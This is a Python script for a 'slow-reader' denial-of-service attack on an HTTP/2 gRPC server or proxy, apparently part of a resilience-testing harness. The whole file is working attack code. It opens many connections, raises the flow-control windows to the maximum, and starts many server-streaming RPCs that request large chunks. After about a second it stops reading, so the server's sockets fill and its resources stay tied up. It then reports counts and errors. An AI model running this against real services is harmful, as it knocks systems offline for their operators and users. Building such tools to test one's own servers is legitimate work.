#!/usr/bin/env python3
# The slow-reader attack: server-streaming RPCs with huge HTTP/2 windows whose responses are never read.
import sys
import threading
import time

import h2.events

import tls_h2


def parse_args():
    parser = tls_h2.attack_arguments("Open server-streaming RPCs and stop reading the socket.", connections=16)
    parser.add_argument("--chunk-bytes", type=int, default=65536, help="x-chunk-bytes asked of the backend")
    return tls_h2.parse(parser)


class Attack:
    def __init__(self, args, context):
        self.args, self.context = args, context
        self.lock = threading.Lock()
        self.connections = []
        self.counts = {"connections_opened": 0, "streams_opened": 0, "headers_seen": 0}
        self.early_status = {}  # trailers-only answers: the attack did not get a stream
        self.errors = []

    def count(self, key, n=1):
        with self.lock:
            self.counts[key] += n

    def run_connection(self, done, deadline):
        try:
            conn = tls_h2.Connection(self.context, self.args.port, self.args.server_name,
                                     initial_window=tls_h2.MAX_WINDOW)
            with self.lock:
                self.connections.append(conn)
            self.count("connections_opened")
            # Open the connection window to the maximum as well, so HTTP/2 flow
            # control never stops the proxy: only the full TCP socket does.
            conn.h2.increment_flow_control_window(tls_h2.MAX_WINDOW - 65535)
            waiting = set()
            for _ in range(self.args.streams):
                waiting.add(conn.open_grpc_stream(
                    "/api.Probe/ServerStream", [("x-chunk-bytes", str(self.args.chunk_bytes))],
                    end_stream_after_empty_message=True))
                self.count("streams_opened")
            conn.flush()
            # Read just long enough to see the responses start, then never again.
            until = min(deadline, time.monotonic() + 1.0)
            while waiting and time.monotonic() < until:
                conn.sock.settimeout(max(0.01, until - time.monotonic()))
                events = conn.receive()
                if events is None:
                    break
                for event in events:
                    if isinstance(event, h2.events.ResponseReceived) and event.stream_id in waiting:
                        waiting.discard(event.stream_id)
                        self.count("headers_seen")
                        status = dict(event.headers).get("grpc-status")
                        if status is not None:
                            with self.lock:
                                self.early_status[status] = self.early_status.get(status, 0) + 1
                    elif isinstance(event, h2.events.StreamReset):
                        waiting.discard(event.stream_id)
        except TimeoutError:
            pass  # the ~1 s read window is over
        except Exception as error:  # the report says what went wrong; other connections go on
            with self.lock:
                if len(self.errors) < 5:
                    self.errors.append(f"{type(error).__name__}: {error}")
        finally:
            done.release()

    def stop(self):
        """Closes every connection (also waking a writer blocked on a full socket)."""
        with self.lock:
            connections = list(self.connections)
        for conn in connections:
            conn.abort()

    def report(self):
        with self.lock:
            return {**self.counts, "early_status": self.early_status, "errors": self.errors}


def main():
    return tls_h2.run_attack("slow_readers", parse_args(), Attack)


if __name__ == "__main__":
    sys.exit(main())
